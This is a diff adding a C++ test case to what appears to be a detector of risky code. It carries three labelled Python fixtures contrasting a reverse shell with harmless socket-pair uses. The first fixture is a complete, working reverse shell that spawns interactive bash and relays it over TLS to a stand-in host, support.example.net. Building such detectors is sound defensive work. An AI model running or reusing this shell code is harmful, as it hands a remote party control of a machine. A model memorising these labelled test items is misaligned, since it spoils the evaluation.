@@ -168,5 +168,76 @@ TEST(HundredAndEighthRoundClasses, AnOpenListsKnownEndIsIteratedElementByElement
   for (const auto& c : cases) check(c);
 }
 
+// A socket pair is a local channel as a pseudo-terminal is: a shell on
+// one end, with the other end relayed to a network connection by the
+// code's own pump, is a reverse shell. A shell driven over a socket pair
+// and kept on the machine runs a process; a socket pair between threads
+// carries no shell.
+TEST(HundredAndEighthRoundClasses, AShellOnASocketPairRelayedToTheNetworkIsAReverseShell) {
+  const Case cases[] = {
+      {"a login shell on one end of a socket pair, the other end pumped to a TLS relay", B,
+       "import socket, ssl, subprocess, threading\n"
+       "\n"
+       "RELAY = (\"support.example.net\", 4433)\n"
+       "\n"
+       "\n"
+       "def pump(src, dst):\n"
+       "    try:\n"
+       "        while chunk := src.recv(4096):\n"
+       "            dst.sendall(chunk)\n"
+       "    except OSError:\n"
+       "        pass\n"
+       "\n"
+       "\n"
+       "def session():\n"
+       "    raw = socket.create_connection(RELAY, timeout=20)\n"
+       "    conn = ssl.create_default_context().wrap_socket(raw, server_hostname=RELAY[0])\n"
+       "    left, right = socket.socketpair()\n"
+       "    proc = subprocess.Popen([\"/bin/bash\", \"-i\"], stdin=right, stdout=right, stderr=right)\n"
+       "    right.close()\n"
+       "    threading.Thread(target=pump, args=(conn, left), daemon=True).start()\n"
+       "    pump(left, conn)\n"
+       "    proc.wait()\n"
+       "\n"
+       "\n"
+       "session()\n",
+       "REVERSE-SHELL"},
+      {"a shell driven over a socket pair, its transcript kept in a local file", M,
+       "import socket, subprocess\n"
+       "\n"
+       "# Drives an interactive shell over a socket pair and keeps its transcript.\n"
+       "left, right = socket.socketpair()\n"
+       "proc = subprocess.Popen([\"/bin/bash\", \"-i\"], stdin=right, stdout=right, stderr=right)\n"
+       "right.close()\n"
+       "left.sendall(b\"echo ready; exit\\n\")\n"
+       "transcript = b\"\"\n"
+       "while chunk := left.recv(4096):\n"
+       "    transcript += chunk\n"
+       "proc.wait()\n"
+       "with open(\"transcript.log\", \"wb\") as f:\n"
+       "    f.write(transcript)\n",
+       "RUNS-PROCESS"},
+      {"a socket pair between threads, the results posted to a dashboard", L,
+       "import json, socket, threading, urllib.request\n"
+       "\n"
+       "# A worker thread hands results to the main thread over a socket pair; the\n"
+       "# main thread posts them to the team's dashboard.\n"
+       "left, right = socket.socketpair()\n"
+       "\n"
+       "\n"
+       "def worker():\n"
+       "    right.sendall(json.dumps({\"builds\": 3, \"failed\": 0}).encode())\n"
+       "    right.close()\n"
+       "\n"
+       "\n"
+       "threading.Thread(target=worker).start()\n"
+       "data = b\"\"\n"
+       "while chunk := left.recv(4096):\n"
+       "    data += chunk\n"
+       "urllib.request.urlopen(\"https://dashboard.example.com/api/status\", data=data, timeout=10)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
